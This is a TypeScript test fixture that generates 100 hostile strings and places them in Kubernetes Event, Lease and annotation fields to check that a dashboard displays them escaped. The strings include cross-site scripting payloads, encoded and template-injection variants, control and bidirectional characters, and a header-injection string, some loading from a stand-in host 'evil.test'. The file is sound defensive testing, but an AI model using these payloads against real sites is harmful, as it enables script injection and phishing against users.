/** 100 forgeries: texts that any client may write into the cluster, and that would run if they were markup. */
import { escapeControls } from "../../functions/shared/base/escape-control.ts";

/** What would run says so here, and what would be loaded comes from a website whose name leads to this machine. */
const run = "window.ran=1";
const evil = "//evil.test";

/** One of each way that a browser knows to run, load or hide something, by a text in the place of another. */
const forms: readonly string[] = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=${evil}/x.js></SCRIPT>`,
  `<script/x>${run}</script x>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `</script><script type=module>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<img/src=x/onerror=${run}>`,
  `<image href=x onerror=${run}>`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${run}'/>#x"/></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<math href="javascript:${run}">x</math>`,
  `<body onload=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<object data="data:text/html,<script>1</script>"></object>`,
  `<embed src="${evil}/x.swf">`,
  `<form action="${evil}"><button>log in</button></form>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<a href="javascript:${run}">mend it here</a>`,
  `<a href="data:text/html,<script>1</script>">x</a>`,
  `<base href="${evil}">`,
  `<link rel=stylesheet href="${evil}/x.css">`,
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<style>*{display:none}</style>`,
  `<style>@import '${evil}'</style>`,
  `<div style="position:fixed;inset:0;background:url(${evil})">`,
  `" onmouseover="${run}" autofocus onfocus="${run}`,
  `' onmouseover='${run}' autofocus onfocus='${run}`,
  `"><img src=x onerror=${run}>`,
  `'><img src=x onerror=${run}>`,
  `\`-${run}-\``,
  `</title></main></body></html><script>${run}</script>`,
  `<!--><script>${run}</script>-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
  `<template shadowrootmode=open><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<plaintext>`,
  `<textarea><script>${run}</script>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${run}&#x3e;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `javascript:${run}//`,
  `__proto__`,
  `\u202e<script>${run}</script>\u202c`,
  `\u2066<img src=x onerror=${run}>\u2069`,
  `\u0000<script>${run}</script>`,
  `\u0007\u001b]8;;${evil}\u0007x\u001b]8;;\u0007`,
  `\u001b[2J<script>${run}</script>`,
  `\ufeff\u200b<script>${run}</script>`,
  `line\u2028<script>${run}</script>\u2029`,
  `one\r\nContent-Type: text/html\r\n\r\n<script>${run}</script>`,
  `\u{e0001}\u{e0020}<script>${run}</script>`,
  `\ud800<script>${run}</script>`,
];

/** Values of an annotation are shown cut after 60 characters, and not at all if they may hold a password. */
const shortForms: readonly string[] = [
  `<script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `"><svg onload=${run}>`,
  `' autofocus onfocus='${run}`,
  `<style>*{display:none}</style>`,
  `</td></table><script>${run}</script>`,
  `&#60;script&#62;`,
  `<details open ontoggle=${run}>`,
  `\u202e<b>\u0007`,
  `{{${run}}}`,
];

/**
 * Where a text stands: the message, the reason or the object of an Event; the function, the guard, the zone or the message of a
 * verdict in a Lease; the value of an annotation of a StatefulSet.
 */
export const placesOfTexts = [
  "message",
  "reason",
  "object",
  "function",
  "guard",
  "zone",
  "sentence",
  "annotation",
] as const;
export type Place = (typeof placesOfTexts)[number];

export interface Forgery {
  readonly place: Place;
  readonly text: string;
  /** As the page shows it. */
  readonly shown: string;
}

/** How many of each place there are: of Events the status has the newest 50. */
const counts: Readonly<Record<Place, number>> = {
  ...{ message: 30, reason: 10, object: 10 },
  ...{ function: 10, guard: 10, zone: 10, sentence: 10 },
  annotation: 10,
};

/** The names of objects have at most as many characters as this. */
const longestName = 253;
const longestReason = 128;

function textOf(place: Place, index: number): string {
  const form = place === "annotation" ? shortForms[index % shortForms.length] : forms[index % forms.length];
  const text = `forged-${index} ${form}`;
  if (place === "object") return text.padEnd(longestName, "x");
  return place === "reason" ? text.slice(0, longestReason) : text;
}

function shownOf(place: Place, text: string): string {
  // The message about an annotation has its value in quotes.
  // What is no text has no form on the wire.
  return escapeControls(place === "annotation" ? JSON.stringify(text).slice(1, -1) : text).toWellFormed();
}

export const forgeries: readonly Forgery[] = placesOfTexts
  .flatMap((place) => Array<Place>(counts[place]).fill(place))
  .map((place, index) => {
    const text = textOf(place, index);
    return { place, text, shown: shownOf(place, text) };
  });

/** Names that the API permits for a group, and that mean something else to a program or to a page. */
export const hostileNames: readonly string[] = [
  ...["constructor", "toString", "hasOwnProperty", "script", "null", "0", "needs", "live", "xn--80ak6aa92e", "a.b-c_d"],
  "g".repeat(63),
];
